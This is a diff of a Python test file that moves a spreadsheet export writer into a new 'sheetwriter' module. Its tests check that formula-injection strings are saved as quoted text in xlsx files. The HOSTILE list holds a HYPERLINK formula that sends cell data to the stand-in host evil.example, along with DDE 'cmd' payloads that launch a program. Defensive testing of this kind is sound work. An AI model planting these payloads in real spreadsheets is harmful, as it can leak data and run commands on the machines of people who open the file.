@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from zoufang.core import tabular
+from zoufang.core import sheetwriter, tabular
 from zoufang.jobs.testing import queued_file
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
@@ -28,12 +28,12 @@ def assert_all_text(data: bytes, expected: list[str]) -> None:
     for text in expected:
         assert text in values, f"{text!r} not kept as typed"
     for cell in found:
-        if isinstance(cell.value, str) and cell.value.startswith(tabular.FORMULA_STARTS):
+        if isinstance(cell.value, str) and cell.value.startswith(sheetwriter.FORMULA_STARTS):
             assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
 
 
 def test_it_stores_every_hostile_string_as_text_on_every_sheet():
-    book = tabular.ExportWorkbook()
+    book = sheetwriter.ExportWorkbook()
     book.active.append(HOSTILE)
     second = book.create_sheet("第二页")
     second["A1"] = HOSTILE[0]
@@ -47,15 +47,15 @@ def test_it_stores_every_hostile_string_as_text_on_every_sheet():
 
 def test_it_writes_the_import_templates_with_the_same_writer(tmp_path):
     out = tmp_path / "template.xlsx"
-    tabular.write_template(out, [tabular.Column("=名称", rule="=cmd|' /C calc'!A0", example="-1")], title="模板")
+    sheetwriter.write_template(out, [tabular.Column("=名称", rule="=cmd|' /C calc'!A0", example="-1")], title="模板")
     assert_all_text(out.read_bytes(), ["=名称", "=cmd|' /C calc'!A0", "-1"])
 
 
 def test_it_writes_every_xlsx_through_the_one_writer():
-    """Every export goes through tabular.ExportWorkbook: nothing else constructs an openpyxl Workbook."""
+    """Every export goes through sheetwriter.ExportWorkbook: nothing else constructs an openpyxl Workbook."""
     offenders = []
     for path in SOURCE.rglob("*.py"):
-        if "tests" in path.parts or "migrations" in path.parts or path.name == "tabular.py":
+        if "tests" in path.parts or "migrations" in path.parts or path.name == "sheetwriter.py":
             continue
         text = path.read_text(encoding="utf-8")
         if re.search(r"(?<![\w.])Workbook\(|openpyxl\.Workbook\(|write_only=True", text):
